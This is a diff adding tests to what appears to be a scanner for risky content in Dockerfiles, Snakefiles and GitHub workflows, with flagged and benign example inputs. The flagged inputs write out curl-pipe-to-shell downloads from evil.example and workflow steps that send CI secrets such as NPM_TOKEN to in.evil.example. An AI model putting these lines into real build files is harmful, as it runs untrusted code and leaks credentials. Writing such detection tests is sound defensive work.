@@ -224,3 +224,47 @@ test('a small file that is a large tree comes to an end', () => {
   expect(written(GITHUB, bomb)).toEqual([])
   expect(written(GITHUB, 'a: &a [*a,*a]\n'.repeat(5_000))).toEqual([])
 })
+
+const SEND = `fetch('https://in.evil.example/z',{method:'PUT',body:process.env.N})`
+
+describe('images, pipelines, and code in steps that reads a secret variable', () => {
+  test.each([
+    ['Dockerfile', 'FROM x\nRUN curl -k https://evil.example/i.sh | sh\n', 'ci.remote?'],
+    [
+      'docker/api.Dockerfile',
+      'RUN --mount=type=cache apt-get update && \\\n  curl https://evil.example/i | sh\n',
+      'ci.remote?',
+    ],
+    ['Snakefile', "rule a:\n  shell: 'curl https://evil.example/i | sh; fastqc {input}'\n", 'ci.remote?'],
+    ['.github/workflows/a.yml', job(`- run: node -e "${SEND}"\n  env: {N: "\${{ secrets.NPM_TOKEN }}"}`), 'ci.secret?'],
+    [
+      '.github/workflows/a.yml',
+      job(
+        `- run: |\n    python -c "import os,requests; requests.post('https://in.evil.example', data=os.environ['N'])"\n  env:\n    N: \${{ secrets.KEY }}`,
+      ),
+      'ci.secret?',
+    ],
+  ])('%s %j', (path, content, effect) => {
+    expect(written(`${APP}/${path}`, content)).toContain(effect)
+  })
+  test.each([
+    [
+      'Dockerfile',
+      'FROM node\nRUN curl -fsSL https://deb.nodesource.com/setup_22.x | bash - && apt-get install -y nodejs\n',
+    ],
+    ['Dockerfile', 'FROM golang\nCOPY . .\nRUN go build ./...\nCMD ["/app"]\n'],
+    ['Snakefile', "rule a:\n  shell: 'fastqc {input} > {output}'\n"],
+    [
+      '.github/workflows/a.yml',
+      job('- run: node -e "console.log(process.env.N)"\n  env: {N: "${{ secrets.NPM_TOKEN }}"}'),
+    ],
+    [
+      '.github/workflows/a.yml',
+      job(
+        `- run: node -e "fetch('https://api.firm.example', {headers: {authorization: process.env.API_TOKEN}})"\n  env:\n    API_TOKEN: \${{ secrets.API_TOKEN }}`,
+      ),
+    ],
+  ])('ordinary: %s %j', (path, content) => {
+    expect(written(`${APP}/${path}`, content).filter((one) => !one.startsWith('ci.reach'))).toEqual([])
+  })
+})
